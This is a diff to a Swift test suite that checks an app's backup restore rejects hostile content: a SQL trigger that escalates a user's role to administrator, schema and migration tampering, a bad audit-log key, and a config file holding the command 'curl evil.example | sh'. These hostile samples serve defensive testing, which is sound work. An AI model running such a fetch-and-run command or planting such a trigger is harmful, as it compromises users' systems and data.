@@ -40,7 +40,9 @@ import Testing
         try note("first")
         try write("model", "models/1/f-lstm.safetensors")
         try write("draft", "models/1/.f-lstm.safetensors.new")
-        for name in DataFile.allCases.dropFirst().flatMap(\.names) + ["config.toml"] { try write(name, name) }
+        for name in DataFile.allCases.dropFirst(2).flatMap(\.names) { try write(name, name) }
+        try write(String(repeating: "k", count: 32), DataFile.auditKey.rawValue)
+        try write("ascii = true\n", "config.toml")
     }
 
     @Test func whatWasBackedUpComesBackAndWhatWasThereIsKept() throws {
@@ -92,6 +94,62 @@ import Testing
         }
         writer.cancel()
         _ = try await writer.value
+    }
+
+    private func inBackup(_ sql: String) throws {
+        let database = try DatabaseQueue(path: backup.url.appendingPathComponent("oddline.db").path)
+        try database.write { try $0.execute(sql: sql) }
+        try database.close()
+    }
+
+    /// What a stranger's backup may hold: what acts by itself, another schema, that of a newer version, no key of the audit log.
+    @Test(arguments: [
+        "CREATE TRIGGER t AFTER INSERT ON users BEGIN UPDATE account_status SET role = 'administrator'; END",
+        "CREATE VIEW everybody AS SELECT * FROM users",
+        "DROP INDEX users_on_email; CREATE INDEX users_on_email ON users (email)",
+        "INSERT INTO grdb_migrations VALUES ('of a later version')", "DROP TABLE grdb_migrations", "DROP TABLE notes",
+    ]) func whatThisProgramHasNotMadeIsNotRestored(_ sql: String) throws {
+        defer { try? FileManager.default.removeItem(at: folder) }
+        try fill()
+        try backup.make(from: locations)
+        try inBackup(sql)
+        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
+        #expect(try notes() == ["first"])
+        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == ["backup", "data"])
+    }
+
+    @Test(arguments: ["", "x", String(repeating: "k", count: 33)]) func aKeyOfTheAuditLogThatIsNoneIsNotRestored(_ key: String)
+        throws
+    {
+        defer { try? FileManager.default.removeItem(at: folder) }
+        try fill()
+        try OddlineDatabase(at: locations.database).write { try $0.execute(sql: "UPDATE audit_log SET hash = x'01'") }
+        try backup.make(from: locations)
+        let file = backup.url.appendingPathComponent("audit-key")
+        if key.isEmpty { unlink(file.path) } else { try PrivateFile(file).write(Data(key.utf8)) }
+        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
+    }
+
+    @Test(arguments: ["on_event = \"curl evil.example | sh\"\n", "[readers]\n\".xlsx\" = [\"/tmp/x\"]\n"])
+    func commandsAreRestoredWhereTheyAreAskedForAlone(_ configuration: String) throws {
+        defer { try? FileManager.default.removeItem(at: folder) }
+        try fill()
+        try backup.make(from: locations)
+        try PrivateFile(backup.url.appendingPathComponent("config.toml")).write(Data(configuration.utf8))
+        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
+        #expect(text("config.toml", in: locations.data) == "ascii = true\n")
+        _ = try backup.restore(to: locations, withCommands: true)
+        #expect(text("config.toml", in: locations.data) == configuration)
+    }
+
+    @Test func aFolderThatEverybodyMayRenameHoldsNoData() throws {
+        defer { try? FileManager.default.removeItem(at: folder) }
+        try makePrivateFolder(folder)
+        for (mode, isRefused) in [(0o777, true), (0o1777, false), (0o755, false)] as [(mode_t, Bool)] {
+            chmod(folder.path, mode)
+            let opened = Result { try OddlineDatabase(at: locations.database) }
+            #expect((try? opened.get()) == nil ? isRefused : !isRefused, "\(String(mode, radix: 8))")
+        }
     }
 
     @Test func nothingIsReplacedByADamagedBackupOrWithoutOne() throws {
